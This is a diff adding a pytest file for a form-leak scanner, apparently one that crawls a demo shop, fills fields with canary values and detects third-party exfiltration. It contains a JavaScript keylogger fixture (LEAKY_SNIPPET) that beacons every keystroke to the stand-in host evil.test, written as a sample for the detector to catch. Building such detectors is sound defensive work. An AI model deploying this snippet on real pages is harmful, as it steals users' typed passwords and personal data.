@@ -1,0 +1,182 @@
+"""``telltale scan``: the crawl, the fields it finds, the scenarios it writes and their runs, on the demo site."""
+
+from __future__ import annotations
+
+import io
+import json
+import socket
+from pathlib import Path
+
+import pytest
+import yaml
+
+from harness.cli import ExitStatus, main
+from harness.run.scenario import CANARY_KINDS
+from harness.scan import fields
+from harness.scan.crawl import PageFound, _why_not_follow
+from harness.scan.fields import Field, Form, canary_kind
+from harness.scan.plan import plan
+from harness.scan.summary import summary_lines
+from tests.apps.fixtures import shop_app  # noqa: F401 - the fixture, by name
+from tests.apps.shop_app import ShopApp
+
+SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
+
+# As tests/test_cli.py's, reading a contenteditable's text too: it sends every keystroke's whole value.
+LEAKY_SNIPPET = """
+addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value || e.target.textContent),
+                 true);
+"""
+
+
+def _main(*argv: str) -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    status = main(list(argv), out, err)
+    return status, out.getvalue(), err.getvalue()
+
+
+def _verdicts(report: Path) -> dict[str, tuple[str, frozenset[tuple[str, str, bool]]]]:
+    """Each run's status and its findings' rule, field and whether the form was ever submitted, by scenario slug."""
+    runs = json.loads((report / "results.json").read_text())["runs"]
+    return {run["slug"]: (run["status"], frozenset((f["rule"], f["field"], "never submitted" in f["when"])
+                                                   for f in run["findings"])) for run in runs}
+
+
+def test_scan_finds_frame_shadow_and_contenteditable_fields_and_its_scenarios_replay(tmp_path: Path) -> None:
+    snippet = tmp_path / "leaky.js"
+    snippet.write_text(LEAKY_SNIPPET)
+    report = tmp_path / "scan"
+    common = ["--snippet", str(snippet), "--site", str(SITE), "--observation-window", "1"]
+    status, out, err = _main("scan", "https://shop.test/index.html", "--pages", "4", "--depth", "1",
+                             "--report", str(report), *common)
+    assert status == ExitStatus.CHECK_FAILED, out + err
+    assert "page 4:" in out and "page 5:" not in out, out  # --pages bounds the crawl
+    assert "https://shop.test/index.html: no forms" in out, out  # a page without forms is reported, not an error
+    written = {p.name: yaml.safe_load(p.read_text()) for p in (report / "scenarios").glob("*.yaml")}
+    typed = {step["type"]["selector"] for doc in written.values() for step in doc["steps"] if "type" in step}
+    assert typed >= {"#q", "#message", "#note", "#newsletter-frame >> internal:control=enter-frame >> #nl-email",
+                     "#profile-card >> #shadow-nickname"}, typed
+    assert all(doc["steps"][-1] == {"leave": "close"} for doc in written.values())  # abandoned: never submitted
+    scanned = _verdicts(report)
+    assert len(scanned) == len(written) == 5
+    leaked = {field for _, findings in scanned.values() for _, field, _ in findings}
+    assert {"#q", "#message", "#note", "#newsletter-frame >> internal:control=enter-frame >> #nl-email"} <= leaked
+    # The generated scenarios are kept as regression tests: `telltale run` replays them to the same verdicts.
+    replay = tmp_path / "replay"
+    status, out, err = _main("run", str(report / "scenarios"), "--report", str(replay), *common)
+    assert status == ExitStatus.CHECK_FAILED, out + err
+    assert _verdicts(replay) == scanned
+
+
+def test_a_scanned_spa_form_finds_the_same_leaks_as_its_hand_written_scenario(tmp_path: Path) -> None:
+    snippet = tmp_path / "leaky.js"
+    snippet.write_text(LEAKY_SNIPPET)
+    common = ["--snippet", str(snippet), "--site", str(SITE), "--observation-window", "1"]
+    _main("scan", "https://shop.test/contact.html", "--depth", "0", "--submit", "--report", str(tmp_path / "scan"),
+          *common)
+    _main("run", str(SITE.parent / "contact_spa.yaml"), "--report", str(tmp_path / "run"), *common)
+    scanned, written = _verdicts(tmp_path / "scan"), _verdicts(tmp_path / "run")
+    assert scanned["scan-contact-contact-form-submit"] == written["contact_spa"]
+    assert written["contact_spa"][1], written  # the leaky snippet was caught at all
+
+
+def test_scan_with_submit_tests_each_form_twice_and_reveals_the_password(tmp_path: Path) -> None:
+    report = tmp_path / "scan"
+    status, out, err = _main("scan", "https://shop.test/login.html", "--depth", "0", "--submit", "--no-snippet",
+                             "--site", str(SITE), "--report", str(report), "--observation-window", "0")
+    runs = json.loads((report / "results.json").read_text())["runs"]
+    assert sorted(run["slug"] for run in runs) == ["scan-login-login-form-abandon", "scan-login-login-form-submit"]
+    assert "form #login-form: 2 field(s), 1 sensitive: abandon " in out, out
+    submitted = yaml.safe_load((report / "scenarios" / "scan-login-login-form-submit.yaml").read_text())
+    assert {"click": "#show-password"} in submitted["steps"] and {"submit": "#login-form"} in submitted["steps"]
+    assert submitted["secrets"] == {"email": "{canary:email}", "password": "{canary:password}"}
+    assert (report / "manifest.json").is_file() and (report / "junit.xml").is_file()
+    assert status in (ExitStatus.OK, ExitStatus.CHECK_FAILED), out + err  # the site alone sends nothing: inconclusive
+
+
+def test_scan_finds_the_forms_of_a_real_app_through_its_real_origin(tmp_path: Path, shop_app: ShopApp) -> None:  # noqa: F811
+    before = len(shop_app.requests)
+    report = tmp_path / "scan"
+    status, out, err = _main("scan", shop_app.base_url + "/leaky", "--depth", "0", "--no-snippet",
+                             "--observation-window", "1", "--report", str(report))
+    assert status == ExitStatus.CHECK_FAILED, out + err
+    (run,) = json.loads((report / "results.json").read_text())["runs"]
+    assert run["status"] == "failed" and {f["party"] for f in run["findings"]} == {"third"}, out
+    # The crawl and the run both loaded the page from the app itself, through the capturing proxy.
+    served = [(r.method, r.path) for r in shop_app.requests[before:]]
+    assert served.count(("GET", "/leaky")) >= 2, served
+
+
+def test_an_unreachable_url_is_one_line_and_exit_3(tmp_path: Path) -> None:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    status, out, err = _main("scan", f"http://127.0.0.1:{port}/", "--report", str(tmp_path / "r"))
+    assert status == ExitStatus.ENVIRONMENT
+    assert err.count("\n") == 1 and f"http://127.0.0.1:{port} is unreachable" in err, err
+
+
+@pytest.mark.parametrize("argv", [["scan", "shop.test"], ["scan", "https://shop.test/", "--pages", "0"]])
+def test_bad_scan_options_are_one_line_and_exit_2(argv: list[str]) -> None:
+    status, out, err = _main(*argv)
+    assert status == ExitStatus.INVALID_INPUT and err.count("\n") == 1, err
+
+
+@pytest.mark.parametrize(("attributes", "kind"), [
+    ({"type": "email"}, "email"), ({"autocomplete": "current-password"}, "password"), ({"type": "tel"}, "phone"),
+    ({"autocomplete": "cc-number"}, "card"), ({"id": "card"}, "card"), ({"autocomplete": "cc-csc"}, "pin"),
+    ({"autocomplete": "one-time-code"}, "otp"), ({"name": "full-name"}, "name"), ({"id": "message"}, "text"),
+    ({"label": "Your message, printed on the card"}, "text"), ({"label": "Card number"}, "card"),
+])
+def test_each_field_gets_a_canary_of_its_kind(attributes: dict[str, str], kind: str) -> None:
+    raw: fields._RawField = {"selector": "#f", "host": "", "tag": "input", "type": "", "editable": False,
+                             "autocomplete": "", "id": "", "name": "", "label": "", "form": "", "form_action": "",
+                             "sensitive": False, "reason": "", "unfillable": ""}
+    raw.update(attributes)  # type: ignore[typeddict-item]
+    assert canary_kind(raw) == kind
+
+
+def test_every_kind_a_field_can_get_is_a_scenario_canary() -> None:
+    tables = (fields._AUTOCOMPLETE_KINDS, fields._NAME_KINDS, fields._LABEL_KINDS)
+    kinds = {kind for table in tables for _, kind in table} | set(fields._TYPE_KINDS.values()) | {fields.DEFAULT_KIND}
+    assert kinds <= set(CANARY_KINDS)
+
+
+@pytest.mark.parametrize(("url", "text", "followed"), [
+    ("https://shop.test/account/logout", "", False), ("https://shop.test/a", "Sign out", False),
+    ("https://shop.test/delete-account", "", False), ("https://shop.test/guide.pdf", "", False),
+    ("https://shop.test/login.html", "Sign in", True),
+])
+def test_logout_like_and_non_html_links_are_not_followed(url: str, text: str, followed: bool) -> None:
+    assert (_why_not_follow(url, text, "https://shop.test/") == "") is followed
+
+
+def test_a_form_no_field_of_which_can_be_filled_is_reported_with_why() -> None:
+    country = Field("#country", "Country", "text", False, "plain: typed text", "a select: a choice, not typed text")
+    email = Field("#email", "E-mail", "email", False, "plain: typed text")
+    pages = [PageFound("https://shop.test/a.html", 0, (Form("#choose", "", (country,)),)),
+             PageFound("https://shop.test/b.html", 1, (Form("#sign", "", (email, country)),))]
+    targets, untested = plan(pages)
+    assert [(t.form.key, t.strategy) for t in targets] == [("#sign", "abandon")]
+    lines = summary_lines(pages, targets, untested, {targets[0].slug: "failed"})
+    assert "  form #choose: 1 field(s), 0 sensitive: not tested: no field can be filled (#country: a select: a " \
+           "choice, not typed text)" in lines
+    assert "  form #sign: 2 field(s), 0 sensitive: abandon failed" in lines
+    assert "    #country: cannot be filled: a select: a choice, not typed text" in lines
+
+
+def test_a_form_listed_safe_is_submitted_without_the_flag_and_stand_alone_fields_never_are() -> None:
+    email = Field("#q", "Search", "text", False, "plain: typed text")
+    pages = [PageFound("https://shop.test/s.html", 0, (Form("#search-form", "", (email,)), Form("", "", (email,)),
+                                                       Form("#login-form", "", (email,))))]
+    targets, _ = plan(pages, submit=False, safe=["#search-form"])
+    assert [(t.form.key, t.strategy) for t in targets] == [
+        ("#search-form", "abandon"), ("#search-form", "submit"), ("", "abandon"), ("#login-form", "abandon")]
+    targets, _ = plan(pages, submit=True)
+    assert [t.strategy for t in targets] == ["abandon", "submit", "abandon", "abandon", "submit"]
+
+
+
+def test_scan_helps_with_examples_and_exit_statuses() -> None:
+    status, out, _ = _main("scan", "--help")
+    assert status == ExitStatus.OK and "examples:" in out and "exit status:" in out and "--submit" in out
